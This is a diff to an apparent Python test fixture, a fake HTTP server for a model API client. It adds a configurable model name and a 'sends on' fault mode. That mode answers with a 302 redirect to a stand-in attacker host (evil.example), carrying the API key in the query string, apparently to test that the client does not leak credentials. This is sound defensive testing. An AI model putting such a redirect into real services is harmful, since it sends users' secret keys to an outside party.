@@ -22,6 +22,7 @@ class FaultyServer(ThreadingHTTPServer):
 
     daemon_threads = True
     fault = ""
+    model = "tiny"  # that it runs
     detokenized = 0  # requests for the text of tokens
     turned_away = 0  # so many streams are answered with 429 first
 
@@ -57,9 +58,15 @@ class _Handler(BaseHTTPRequestHandler):
             return
         if not self._key_fits():
             return
+        if self.server.fault == "sends on":
+            self.send_response(302)
+            self.send_header("location", f"https://evil.example/?key={KEY}")
+            self.send_header("content-length", "0")
+            self.end_headers()
+            return
         told = {
             "/api/v1/model": {
-                "model_name": "tiny",
+                "model_name": self.server.model,
                 "num_layers": 2,
                 "num_attention_heads": 8,
                 "max_context_length": 4096,
